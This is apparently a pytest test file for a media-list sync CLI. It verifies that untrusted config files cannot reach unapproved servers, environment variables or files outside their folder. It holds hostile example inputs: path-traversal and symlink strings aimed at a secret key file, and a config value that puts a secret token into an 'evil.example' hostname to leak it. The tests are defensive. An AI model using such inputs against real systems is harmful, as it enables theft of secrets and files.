"""A file that somebody else wrote, under --allow-server, --allow-env and --allow-files."""

from __future__ import annotations

import inspect
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from examples.sandbox.media_server import SandboxServer
from reconciler.cli import health
from reconciler.cli.program import COMMANDS
from tests.e2e.household import DUNE, HEAT, Household, until
from tests.e2e.running import lists, running, write

READING = {
    "validate": (), "plan": (), "apply": ("--yes",), "adopt": ("wishes",), "forget": ("tmdb:tv:1",),
    "run": (), "reconcile": ("wishes",), "status": (), "explain": ("Dune",), "fetch": ("wishes",),
    "history": (), "doctor": (), "login": ("trakt",), "add": ("imdb:top",), "config": ("show",),
}  # fmt: skip
SECRET = "key-of-nobody"


@pytest.fixture(scope="module")
def evil() -> Iterator[SandboxServer]:
    with SandboxServer() as server:
        yield server


def test_every_command_that_reads_the_file_has_the_options() -> None:
    commands = [command for group in COMMANDS.values() for command in group]
    restricted = {
        command.__name__
        for command in commands
        if "allow_server" in inspect.signature(command).parameters
    }
    assert restricted == READING.keys()
    others = {command.__name__ for command in commands} - restricted
    assert others == {"init", "import_", "schema", "version"}


@pytest.mark.parametrize("command", READING)
def test_no_command_calls_another_server(
    household: Household, evil: SandboxServer, command: str
) -> None:
    household.wish([DUNE])
    wishes = {"wishes": {"source": "file:wishes.txt"}}
    household.write(wishes, url=evil.url, controller={"listen": evil.url.removeprefix("http://")})
    done = household.run(command, *READING[command], "--allow-server", household.server.url)
    assert done.code == 78
    assert done.err.startswith("listsync.yaml:3:10 server.url: this server is not allowed")
    assert (household.server.state.calls, evil.state.calls) == ([], [])


NO_KEY = {"LISTSYNC_ALLOW_ENV": "A"}
ALLOWED = {
    "options": (("validate", "--allow-server", "HERE/", "--allow-env", "A,SEERR_API_KEY"), {}),
    "variables": ((), {"LISTSYNC_ALLOW_SERVER": "http://other HERE",
                       "LISTSYNC_ALLOW_ENV": "SEERR_API_KEY"}),
    "before the command": (("--allow-env", "SEERR_API_KEY", "validate"), NO_KEY),
    "options over variables": (("validate", "--allow-env", "SEERR_API_KEY"), NO_KEY),
}  # fmt: skip
REFUSED = {
    "option": (("validate", "--allow-env", "A,B"), {}),
    "variable": ((), {"LISTSYNC_ALLOW_ENV": "A,B"}),
    "empty variable": ((), {"LISTSYNC_ALLOW_ENV": ""}),
    "empty server": ((), {"LISTSYNC_ALLOW_SERVER": ""}),
}


@pytest.mark.parametrize(("options", "env", "code"), [
    *((*row, 0) for row in ALLOWED.values()), *((*row, 78) for row in REFUSED.values())
], ids=[*ALLOWED, *REFUSED])  # fmt: skip
def test_restrictions_come_from_options_or_variables(
    household: Household, options: tuple[str, ...], env: dict[str, str], code: int
) -> None:
    household.wish([DUNE])
    here = household.server.url
    done = household.run(
        *(word.replace("HERE", here) for word in options or ("validate",)),
        env={name: value.replace("HERE", here) for name, value in env.items()},
    )
    assert done.code == code, done.err


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("outside")
    (folder / "wishes.txt").write_text(f"imdb:{DUNE.imdb}\n")
    (folder / "wishes.csv").write_text("Date,Name,Year,Letterboxd URI\n")
    (folder / "key").write_text(f"{SECRET}\n")
    return folder


PLACES = {
    "an absolute path": "{outside}/wishes.txt",
    "a relative path": "../{name}/wishes.txt",
    "a symlink": "link.txt",
    "a folder that is a symlink": "folder/wishes.txt",
    "a way back from an archive": "a.zip/../{name}/wishes.txt",
}


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_lists_outside_the_folder_need_to_be_allowed(
    household: Household, outside: Path, place: str
) -> None:
    (household.folder / "link.txt").symlink_to(outside / "wishes.txt")
    (household.folder / "folder").symlink_to(outside)
    (household.folder / "a.zip").symlink_to(outside / "wishes.txt")
    household.write(
        {"wishes": {"source": f"file:{place.format(outside=outside, name=outside.name)}"}}
    )
    done = household.run("validate", "--allow-env", "SEERR_API_KEY")
    problem = "outside the folder of the config file; add --allow-files to use it"
    assert (done.code, done.err) == (78, f"listsync.yaml:10:14 lists.wishes.source: {problem}\n")
    assert household.run("validate", "--allow-env", "SEERR_API_KEY", "--allow-files").code == 0
    allowed = {"LISTSYNC_ALLOW_ENV": "SEERR_API_KEY", "LISTSYNC_ALLOW_FILES": "1"}
    assert household.run("validate", env=allowed).code == 0
    assert household.run("validate").code == 0


@pytest.mark.parametrize("section", [
    {"server": {"ca_file": "{outside}/key"}},
    {"notify": {"urls_file": "{outside}/key"}},
    {"providers": {"tmdb": {"api_key_file": "{outside}/key"}}},
    {"ledger": "{outside}/listsync.db"},
    {"lists": {"a": {"source": "letterboxd:{outside}/wishes.csv"}}},
    {"lists": {"a": {"source": "file:{outside}/wishes.txt", "role": "exclude"}}},
], ids=lambda section: json.dumps(section)[1:30])  # fmt: skip
def test_every_other_file_outside_the_folder_does_too(
    household: Household, outside: Path, section: dict[str, object]
) -> None:
    household.wish([DUNE])
    file = household.folder / "listsync.yaml"
    document = json.loads(file.read_text())
    for key, value in json.loads(json.dumps(section).replace("{outside}", str(outside))).items():
        document[key] = {**document.get(key, {}), **value} if isinstance(value, dict) else value
    file.write_text(json.dumps(document, indent=1))
    done = household.run("validate", "--allow-env", "SEERR_API_KEY")
    assert done.code == 78
    [line] = done.err.splitlines()
    assert line.endswith("outside the folder of the config file; add --allow-files to use it")
    assert not (outside / "listsync.db").exists()


def test_a_restricted_file_is_itself_no_link_out_of_its_folder(
    household: Household, outside: Path
) -> None:
    household.wish([DUNE])
    file = household.folder / "listsync.yaml"
    file.rename(household.folder / "real.yaml")
    file.symlink_to("real.yaml")
    assert household.run("validate", "--allow-env", "SEERR_API_KEY").code == 0
    (household.folder / "real.yaml").rename(outside / "real.yaml")
    file.unlink()
    file.symlink_to(outside / "real.yaml")
    done = household.run("validate", "--allow-env", "SEERR_API_KEY")
    problem = "a link to a file outside its folder; use that file: -c FILE"
    assert (done.code, done.err) == (78, f"listsync.yaml: {problem}\n")
    assert household.run("validate").code == 0


def test_a_restricted_file_may_come_through_a_pipe(household: Household) -> None:
    household.write({"top": {"source": "imdb:top"}}, ledger=None)
    reading, writing = os.pipe()
    os.write(writing, (household.folder / "listsync.yaml").read_bytes())
    os.close(writing)
    command = ("validate", "--allow-env", "SEERR_API_KEY", "-c", "/dev/stdin")
    assert household.apart(*command, stdin=reading).code == 0
    os.close(reading)


def test_no_command_shows_a_line_of_a_file_outside_the_folder(
    household: Household, outside: Path
) -> None:
    household.secrets.append(SECRET)
    household.write({"wishes": {"source": f"file:{outside}/key"}})
    for command in ("plan", "apply --yes", "doctor", "fetch wishes", "status wishes", "explain x"):
        done = household.run(*command.split())
        assert done.code == (0 if command in {"status wishes", "explain x"} else 1), command
        assert command == "explain x" or "line 1, column 1: not a title; write" in done.out


def test_a_saved_plan_is_applied_under_the_same_restrictions(
    household: Household, evil: SandboxServer
) -> None:
    household.wish([DUNE])
    allowed = ("--allow-server", household.server.url, "--allow-env", "SEERR_API_KEY")
    assert household.run("plan", "--out", "plan.json", *allowed).code == 0
    refused = household.run("apply", "plan.json", "--allow-server", evil.url)
    assert (refused.code, household.stored()) == (78, [])
    assert household.run("apply", "plan.json", *allowed).code == 0
    assert household.stored() == [DUNE.tmdb]


def test_a_run_goes_on_with_its_last_file_where_the_next_one_breaks_a_restriction(
    household: Household, evil: SandboxServer
) -> None:
    write(household, lists(household, wishes=(DUNE,)))
    with running(
        household, "--allow-server", household.server.url, "--allow-env", "SEERR_API_KEY"
    ) as run:
        until(run.is_ready)
        generation = run.status()["generation"]
        write(
            household,
            lists(household, wishes=(DUNE, HEAT)),
            url=evil.url,
            controller={"grace": "0s"},
        )
        until(lambda: run.global_condition("ConfigValid").get("status") == "False")
        assert (
            "server.url: this server is not allowed"
            in run.global_condition("ConfigValid")["message"]
        )
        assert run.status()["generation"] == generation
    assert evil.state.calls == []


@pytest.mark.parametrize(("env", "place"), [
    ({}, f"{SECRET}.evil.example:80"), ({"LISTSYNC_ALLOW_SERVER": "http://seerr"}, health.DEFAULT),
    ({"LISTSYNC_ALLOW_ENV": ""}, health.DEFAULT),
], ids=["unrestricted", "server", "no variable"])  # fmt: skip
def test_the_health_check_spells_no_variable_out_in_a_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], place: str
) -> None:
    calls: list[str] = []
    monkeypatch.setattr(health, "get_local", lambda listen, _path: calls.append(listen))
    monkeypatch.setenv("TOKEN", SECRET)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    (tmp_path / "f.yaml").write_text("controller: {listen: '${TOKEN}.evil.example:80'}\n")
    health.is_alive(tmp_path / "f.yaml")
    assert calls[0] == place
